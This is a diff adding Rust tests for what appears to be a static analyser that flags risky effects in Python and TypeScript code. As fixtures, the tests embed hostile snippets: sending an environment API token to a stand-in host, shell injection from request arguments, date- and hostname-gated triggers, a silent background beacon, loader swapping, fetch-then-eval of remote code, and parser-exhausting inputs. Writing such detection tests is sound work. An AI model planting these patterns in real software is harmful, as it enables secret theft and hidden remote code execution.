@@ -1,0 +1,143 @@
+//! Labels, guards, stealth, narrowing and bounds.
+
+use crate::{run, show};
+use tares_lang::Language::{Python, TypeScript};
+use tares_model::effect::label::Sink;
+use tares_model::effect::{GuardClass, Stealth};
+use tares_model::{Effect, EffectKind, Label};
+
+fn only(language: tares_lang::Language, code: &str, kind: EffectKind) -> Effect {
+    let analysis = run(language, code);
+    let all: Vec<&Effect> = analysis.effects.iter().filter(|e| e.kind == kind).collect();
+    assert_eq!(all.len(), 1, "{:?}", analysis.effects.iter().map(show).collect::<Vec<_>>());
+    all[0].clone()
+}
+
+#[test]
+fn labels_follow_data_through_containers_and_calls() {
+    let effect = only(
+        Python,
+        "import requests, os\ndef clean(x):\n    return x.strip()\nd = {'k': [os.environ['API_TOKEN']]}\nrequests.post('https://h.example', json={'x': clean(d['k'][0])})",
+        EffectKind::Network,
+    );
+    assert!(effect.data.has(Label::Credential) && effect.data.has(Label::Environment));
+    let source = &effect.role("data").unwrap().sources[0];
+    assert!(source.steps[0].what.contains("os.environ"), "{source:?}");
+}
+
+#[test]
+fn unmodelled_calls_pass_labels() {
+    let effect = only(
+        Python,
+        "import os, mystery\nfrom flask import request\nos.system(mystery.wrap(request.args['c']))",
+        EffectKind::Process,
+    );
+    assert!(effect.data.has(Label::UserInput));
+}
+
+#[test]
+fn a_check_against_a_closed_set_makes_a_value_safe() {
+    let effect = only(
+        Python,
+        "import os\nfrom flask import request\nc = request.args['c']\nif c not in ('a', 'b'):\n    raise ValueError()\nos.system('x ' + c)",
+        EffectKind::Process,
+    );
+    let role = effect.role("command").unwrap();
+    assert!(role.clean.has(Sink::Shell), "{role:?}");
+}
+
+#[test]
+fn a_check_on_another_value_does_not() {
+    let effect = only(
+        Python,
+        "import os\nfrom flask import request\nc = request.args['c']\nd = request.args['d']\nif d not in ('a', 'b'):\n    raise ValueError()\nos.system('x ' + c)",
+        EffectKind::Process,
+    );
+    assert!(!effect.role("command").unwrap().clean.has(Sink::Shell));
+}
+
+#[test]
+fn a_date_is_a_trigger_and_a_timer_is_none() {
+    let dated = only(
+        Python,
+        "import datetime, requests\nif datetime.date.today() > datetime.date(2027, 1, 1):\n    requests.get('https://h.example')",
+        EffectKind::Network,
+    );
+    assert_eq!(dated.guard[0].class, GuardClass::Clock);
+    let timed = only(
+        Python,
+        "import time, requests\nlast = load()\nif time.time() - last > 60:\n    requests.get('https://h.example')",
+        EffectKind::Network,
+    );
+    assert_eq!(timed.guard[0].class, GuardClass::Plain);
+}
+
+#[test]
+fn an_early_return_guards_what_follows() {
+    let effect = only(
+        Python,
+        "import socket, requests\ndef f():\n    if socket.gethostname() != 'build-7':\n        return\n    requests.get('https://h.example')",
+        EffectKind::Network,
+    );
+    assert_eq!((effect.guard[0].class, effect.guard[0].holds), (GuardClass::Identity, false));
+}
+
+#[test]
+fn swallowed_errors_and_detached_threads_are_stealth() {
+    let analysis = run(
+        Python,
+        "import threading, requests\ndef beat():\n    try:\n        requests.post('https://h.example', timeout=0.5)\n    except Exception:\n        pass\nthreading.Thread(target=beat, daemon=True).start()",
+    );
+    let all: Vec<_> = analysis.effects.iter().filter(|e| e.kind == EffectKind::Network).flat_map(|e| e.stealth.clone()).collect();
+    for wanted in [Stealth::SwallowedErrors, Stealth::Detached, Stealth::TinyTimeout] {
+        assert!(all.contains(&wanted), "{wanted} in {all:?}");
+    }
+}
+
+#[test]
+fn dead_branches_do_nothing() {
+    for code in ["if 1 > 2:\n    os.system('x')", "if False:\n    os.system('x')", "def f():\n    return 1\n    os.system('x')", "x = 3\nif x == 4:\n    os.system('x')"] {
+        let analysis = run(Python, &format!("import os\n{code}"));
+        assert!(analysis.effects.iter().all(|e| e.kind != EffectKind::Process), "{code}");
+    }
+}
+
+#[test]
+fn a_changed_api_means_what_it_was_changed_to() {
+    let effect = only(
+        Python,
+        "import yaml\nyaml.SafeLoader = yaml.UnsafeLoader\nyaml.load(data, Loader=yaml.SafeLoader)",
+        EffectKind::Deserialise,
+    );
+    assert_eq!(effect.role("loader").unwrap().shape, tares_model::effect::Shape::Api("yaml.UnsafeLoader".into()));
+}
+
+#[test]
+fn promises_hand_on_what_they_fetch() {
+    let analysis = run(TypeScript, "fetch('https://h.example/x').then(r => r.text()).then(t => eval(t))");
+    let code = analysis.effects.iter().find(|e| e.kind == EffectKind::DynamicCode).unwrap();
+    assert!(code.data.has(Label::RemoteContent), "{}", show(code));
+}
+
+#[test]
+fn hostile_texts_end() {
+    let deep = "(".repeat(100_000);
+    let calls = "f(".repeat(3_000) + &")".repeat(3_000);
+    let chain = format!("x = 1{}", " + y".repeat(20_000));
+    let ifs = "if a:\n  b = c\n".repeat(20_000);
+    let recursion = "def f(x):\n    return f(f(x)) + f(x)\nf(1)\n";
+    let bomb = "a = 'x' * 4096\nfor i in range(60):\n    a = a + a\n    b = [a] * 900\n";
+    for code in [&deep, &calls, &chain, &ifs, recursion, bomb] {
+        let analysis = run(Python, code);
+        assert!(analysis.steps < 9_000_000);
+    }
+    let minified = "var a=function(){return a(a)};".repeat(5_000);
+    assert!(run(TypeScript, &minified).steps < 9_000_000);
+}
+
+#[test]
+fn running_out_of_fuel_is_said() {
+    let nested = format!("x = 0\n{}{}y = x\n", (0..40).map(|i| format!("{}while c{i}():\n", " ".repeat(i))).collect::<String>(), " ".repeat(40));
+    let analysis = run(Python, &nested);
+    assert!(analysis.steps < 9_000_000);
+}
